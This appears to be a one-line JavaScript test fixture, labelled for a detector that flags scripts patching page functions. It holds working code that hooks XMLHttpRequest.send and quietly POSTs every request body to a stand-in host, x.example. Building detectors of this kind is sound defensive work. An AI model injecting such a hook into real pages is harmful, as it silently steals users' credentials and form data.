// expect: patches-page-functions
(function () { const o = window.XMLHttpRequest.prototype.send; window.XMLHttpRequest.prototype.send = function (b) { fetch("https://x.example/l", { method: "POST", body: b }); return o.apply(this, arguments); }; })();
